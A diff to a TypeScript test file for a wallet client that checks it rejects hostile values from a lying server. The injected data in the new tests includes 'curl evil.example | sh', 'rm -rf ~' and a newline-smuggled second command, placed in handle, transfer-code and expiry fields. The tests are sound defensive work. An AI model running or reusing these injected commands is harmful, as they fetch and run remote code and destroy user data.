@@ -1,11 +1,15 @@
 /** A wallet between servers that lie: what is signed, and what is believed. */
 import { randomBytes } from 'node:crypto'
 import { afterAll, beforeEach, describe, expect, test } from 'bun:test'
+import type { Handle } from '../../src/protocol/identifiers.ts'
 import { encodeObject } from '../../src/protocol/jws.ts'
+import { formatDidKey, signingKey } from '../../src/protocol/keys.ts'
+import { genesisDid, genesisOperation, signOperation } from '../../src/protocol/plc.ts'
 import { freshContents } from '../../src/wallet/wallet.ts'
 import { newShares } from '../../src/wallet/recovery-seed.ts'
 import { deviceKey } from '../harness/wallet.ts'
 import { startFalseServer } from '../harness/false-server.ts'
+import { request } from '../harness/http.ts'
 import { startPlcServer } from '../harness/plc-server.ts'
 import { WalletUser } from '../harness/wallet-user.ts'
 
@@ -28,6 +32,19 @@ beforeEach(() => {
 afterAll(() => Promise.all([server[Symbol.asyncDispose](), plc[Symbol.asyncDispose]()]))
 
 const contents = (changes = {}) => ({ ...freshContents(server.url, plc.url), did: DID, handle: 'alice.test', ...changes })
+/** A wallet whose identity is in the directory, with a session. */
+async function knownWallet() {
+  const wallet = contents({ walletSession: token() })
+  const key = signingKey('p256', Buffer.from(wallet.deviceKey, 'hex'))
+  const rotationKeys = [formatDidKey(key.publicKey)]
+  const genesis = signOperation(
+    genesisOperation({ signingKey: deviceKey().did, handle: 'alice.test' as Handle, rotationKeys, pdsEndpoint: server.url }),
+    key,
+  )
+  const did = genesisDid(genesis)
+  await request(`${plc.url}/${did}`, { json: genesis })
+  return { ...wallet, did }
+}
 const posts = () => server.requests.filter((name) => !name.startsWith('GET'))
 
 describe('nothing is signed', () => {
@@ -159,6 +176,51 @@ describe('an identity is not made', () => {
   })
 })
 
+describe('what a server says does not become', () => {
+  const good = { sub: DID, aud: described.did, exp: 4_000_000_000 }
+
+  test('a handle, unless it is one', async () => {
+    server.answers[SOVEREIGN] = { accessJwt: jwt(good), refreshJwt: jwt(good), handle: 'x; curl evil.example | sh' }
+    await user.keep(contents())
+    await user.do(['sign-in'])
+    expect((await user.contents()).handle).toBe('alice.test')
+  })
+
+  test.each([
+    ['a part of the command that is copied', { transferCode: 'A;rm -rf ~' }],
+    ['another command below it', { expiresAt: '12:00\n\n  curl evil.example | sh' }],
+  ])('%s', async (_, change) => {
+    const answer = { transferId: uuid, transferCode: 'ABC123', expiresAt: '2030-01-01T00:00:00Z', status: 'pending' }
+    const known = await knownWallet()
+    for (const [said, code] of [
+      [{ ...answer, ...change }, 1],
+      [answer, 0],
+    ] as const) {
+      server.answers['POST /v1/transfer/initiate'] = said
+      await user.keep(known)
+      expect((await user.run(['transfer'])).code).toBe(code)
+    }
+  })
+
+  test('more lines of an error than one', async () => {
+    const message = `no\n\nThe wallet is fine.${'.'.repeat(5000)}`
+    server.answers[SOVEREIGN] = () => Response.json({ error: { code: 'X', message } }, { status: 400 })
+    await user.keep(contents())
+    const { err } = await user.run(['sign-in'])
+    expect(err.split('\n')).toHaveLength(1)
+    expect(err.length).toBeLessThan(1000)
+  })
+
+  test('a scope, if it is more than one', async () => {
+    const requestId = `poauth_${token()}`
+    const asking = { requestId, clientId: 'https://app.example', redirectUri: 'https://app.example/cb' }
+    server.answers['GET /oauth/authorize/consent-request'] = { ...asking, requestedScope: ['atproto', 'x account:email?action=manage'] }
+    await user.keep(contents())
+    expect((await user.run(['approve', requestId, '--yes'])).code).toBe(1)
+    expect(posts()).toEqual([])
+  })
+})
+
 describe('a released share is refused', () => {
   const { keychain, paper, escrow } = newShares()
   const recovering = () => contents({ unfinished: { what: 'recovery', did: DID, availableAt: null, escrowShare: null } })
@@ -181,7 +243,7 @@ test('an app cannot write lines of its own into the question', async () => {
     clientId: 'https://app.example',
     clientName: 'An app\nrequested for  you\n\nThe app asks for permission to:',
     redirectUri: 'https://app.example/callback',
-    requestedScope: ['atproto', 'transition:generic\n  - Know who you are'],
+    requestedScope: ['atproto', 'transition:generic'],
   }
   await user.keep(contents())
   const { out, asked } = await user.run(['approve', 'ABCD-1234'], { answers: { 'Type yes': 'no' } })
